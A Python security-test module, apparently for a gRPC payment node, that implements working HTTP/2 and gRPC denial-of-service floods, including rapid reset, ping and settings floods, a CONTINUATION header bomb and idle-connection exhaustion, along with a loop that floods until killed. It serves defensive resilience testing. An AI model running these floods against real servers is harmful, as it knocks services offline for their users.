"""Floods: what one hostile program with a client's certificate, or with none, can pour over a node.

Each takes what it floods and a count, and returns whether the node turned it away: by
GOAWAY, a closed connection, or a refusal. `python -m tests.security.floods NAME COUNT TARGET` runs
one in a process of its own, again and again until it is killed: for `campaign`, whose
own process must stay calm.
"""

import json
import os
import socket
import ssl
import sys
import time
from collections.abc import Callable, Iterator
from contextlib import ExitStack, contextmanager
from dataclasses import asdict, dataclass
from pathlib import Path

import grpc
from interbank.v1 import payment_pb2, payment_pb2_grpc

from tests.security import raw_http2 as raw
from tests.security.raw_http2 import RawConnection, call_headers, frame


@dataclass(frozen=True)
class Target:
    """Where a node listens, what it must show, and what the flooder shows: paths of PEM files."""

    host: str
    port: int
    tls_name: str
    ca: str
    certificate: str
    key: str

    @contextmanager
    def tcp(self) -> Iterator[socket.socket]:
        """Connect, and say nothing."""
        with socket.create_connection((self.host, self.port), timeout=10) as line:
            yield line

    @contextmanager
    def tls(self) -> Iterator[ssl.SSLSocket]:
        """Connect and shake hands."""
        context = ssl.create_default_context(cafile=self.ca)
        context.set_alpn_protocols(["h2"])
        context.load_cert_chain(self.certificate, self.key)
        with self.tcp() as plain, context.wrap_socket(plain, server_hostname=self.tls_name) as line:
            yield line

    @contextmanager
    def http2(self, *, timeout_s: float = 10.0) -> Iterator[RawConnection]:
        """Connect, shake hands and say the preface."""
        with self.tls() as line:
            yield RawConnection(line, timeout_s=timeout_s)

    def channel(self) -> grpc.Channel:
        """Open a line as a well-behaved client would."""
        shown = [Path(name).read_bytes() for name in (self.ca, self.key, self.certificate)]
        credentials = grpc.ssl_channel_credentials(*shown)
        options = [("grpc.ssl_target_name_override", self.tls_name), ("grpc.use_local_subchannel_pool", 1)]
        return grpc.secure_channel(f"{self.host}:{self.port}", credentials, options)


Flood = Callable[[Target, int], bool]
_held_s = 0.0
"""How long connections are held that only wait."""
_BURNT_EACH_S = 0.01


def idle_connections(target: Target, count: int) -> bool:
    """Connect without a word."""
    with ExitStack() as held:
        for _ in range(count):
            held.enter_context(target.tcp())
        time.sleep(_held_s)
    return False


def idle_tls_connections(target: Target, count: int) -> bool:
    """Shake hands, and then say nothing."""
    with ExitStack() as held:
        for _ in range(count):
            held.enter_context(target.tls())
        time.sleep(_held_s)
    return False


def half_a_preface(target: Target, count: int) -> bool:
    """Stop in the middle of the first words of HTTP/2."""
    with ExitStack() as held:
        for _ in range(count):
            held.enter_context(target.tls()).sendall(raw.PREFACE[:10])
        time.sleep(_held_s)
    return False


def slow_headers(target: Target, count: int) -> bool:
    """Begin the headers of a call, and add to them byte by byte."""
    with target.http2() as line:
        line.send(frame(raw.HEADERS, call_headers("PaymentService/Pay"), stream=1))
        for _ in range(count):
            if not line.send(frame(raw.CONTINUATION, b"", stream=1)):
                return True
    return False


def pings(target: Target, count: int) -> bool:
    """Ping as no gRPC client would let anyone (CVE-2019-9512)."""
    with target.http2() as line:
        line.send(frame(raw.PING, bytes(8)) * count)
        return line.is_sent_away()


def rapid_reset(target: Target, count: int) -> bool:
    """Open calls and take each back at once (CVE-2023-44487), and read what comes back, so as to be heard on."""
    with target.http2(timeout_s=3) as line:
        for first in range(1, 2 * count, 200):
            if not (line.send(raw.reset_streams(first, 100)) and line.attend()):
                return True
    return False


def rapid_reset_anew(target: Target, count: int) -> bool:
    """Do so for a moment, and come again on a new connection."""
    with target.http2() as line:
        for first in range(1, 2 * count, 200):
            line.send(raw.reset_streams(first, 100))
    return False


def header_bomb(target: Target, count: int) -> bool:
    """Send the headers of one call, 16 KB at a time (CVE-2024-27316); they end after all."""
    with target.http2() as line:
        line.send(frame(raw.HEADERS, call_headers("PaymentService/Pay"), stream=1))
        filler = raw.literal("x-filler", "x" * 16_000)
        if not all(line.send(frame(raw.CONTINUATION, filler, stream=1)) for _ in range(count)):
            return True
        line.send(frame(raw.CONTINUATION, flags=raw.END_HEADERS, stream=1))
        line.send(frame(raw.DATA, bytes(5), flags=raw.END_STREAM, stream=1))
        return line.is_answered()


def settings(target: Target, count: int) -> bool:
    """Have settings acknowledged again and again (CVE-2019-9515)."""
    with target.http2() as line:
        line.send(frame(raw.SETTINGS) * count)
    return False


def noise(target: Target, count: int) -> bool:
    """Send what is no HTTP/2 at all."""
    with target.tls() as line:
        connection = RawConnection(line)
        connection.send(b"\xff" * 1000 * count)
        return connection.is_sent_away()


def data_of_no_call(target: Target, count: int) -> bool:
    """Send data on a stream that was never opened."""
    with target.http2() as line:
        line.send(frame(raw.DATA, b"x" * 100, stream=7) * count)
    return False


def endless_message(target: Target, count: int) -> bool:
    """Announce a message of 4 GiB, and begin to send it."""
    with target.http2() as line:
        headers = frame(raw.HEADERS, call_headers("PaymentService/Pay"), flags=raw.END_HEADERS, stream=1)
        line.send(headers + frame(raw.DATA, b"\0\xff\xff\xff\xff" + b"x" * 1000, stream=1))
        return line.is_answered()


def silent_calls(target: Target, count: int) -> bool:
    """Begin calls, and never say what is asked."""
    headers = call_headers("PaymentService/Pay")
    with target.http2() as line:
        for stream in range(1, 2 * count, 2):
            line.send(frame(raw.HEADERS, headers, flags=raw.END_HEADERS, stream=stream))
    return False


def logins(target: Target, count: int) -> bool:
    """Log in all at once; the password is right."""
    with target.channel() as channel:
        stub = payment_pb2_grpc.PaymentServiceStub(channel)
        request = payment_pb2.LoginRequest(user="bob", password="bob123")
        codes = [call.code() for call in [stub.Login.future(request, timeout=30) for _ in range(count)]]
    assert set(codes) <= {grpc.StatusCode.OK, grpc.StatusCode.RESOURCE_EXHAUSTED}, set(codes)
    return grpc.StatusCode.RESOURCE_EXHAUSTED in codes


def strangers_calls(target: Target, count: int) -> bool:
    """Call without a login, many at once."""
    with target.channel() as channel:
        stub = payment_pb2_grpc.PaymentServiceStub(channel)
        request = payment_pb2.PayRequest()
        codes = [call.code() for call in [stub.Pay.future(request, timeout=30) for _ in range(count)]]
    assert set(codes) <= {grpc.StatusCode.UNAUTHENTICATED, grpc.StatusCode.RESOURCE_EXHAUSTED}, set(codes)
    return True


FLOODS: dict[str, tuple[Flood, int, bool]] = {
    "idle connections": (idle_connections, 400, False),
    "idle TLS connections": (idle_tls_connections, 100, False),
    "half a preface": (half_a_preface, 50, False),
    "slow headers": (slow_headers, 2000, False),
    "pings": (pings, 1000, True),
    "rapid reset": (rapid_reset, 10_000_000, True),
    "rapid reset, anew": (rapid_reset_anew, 500, False),
    "header bomb": (header_bomb, 500, True),
    "settings": (settings, 2000, False),
    "noise": (noise, 10, True),
    "data of no call": (data_of_no_call, 2000, False),
    "an endless message": (endless_message, 1, True),
    "silent calls": (silent_calls, 1000, False),
    "a thousand logins": (logins, 1000, True),
    "strangers' calls": (strangers_calls, 1000, True),
}
"""By name: the flood, how much of it a test sends, and whether the node must send it away."""


def burn(share: float) -> None:
    """Use this share of a processor, and touch nobody."""
    while True:
        begins = time.perf_counter()
        while time.perf_counter() - begins < share * _BURNT_EACH_S:
            pass
        time.sleep((1 - share) * _BURNT_EACH_S)


def main() -> None:
    """Flood until killed, from as far away as can be had here: whatever else runs gets the processors first."""
    global _held_s  # noqa: PLW0603 - this process does nothing else
    os.nice(19)
    _held_s = 60.0
    if sys.argv[1] == "burn":
        burn(float(sys.argv[2]))
    name, count, target = sys.argv[1:]
    flood = FLOODS[name][0]
    while True:
        try:
            flood(Target(**json.loads(target)), int(count))
        except (OSError, AssertionError):  # a flooder does not give up
            time.sleep(0.01)


def command(name: str, count: int, target: Target) -> list[str]:
    """Return the command line of a flood in a process of its own."""
    return [sys.executable, "-m", "tests.security.floods", name, str(count), json.dumps(asdict(target))]


def burning(share: float) -> list[str]:
    """Return the command line of what uses as much of a processor as a flooder does, and floods nobody."""
    return [sys.executable, "-m", "tests.security.floods", "burn", f"{min(share, 1.0):.3f}"]


if __name__ == "__main__":
    main()
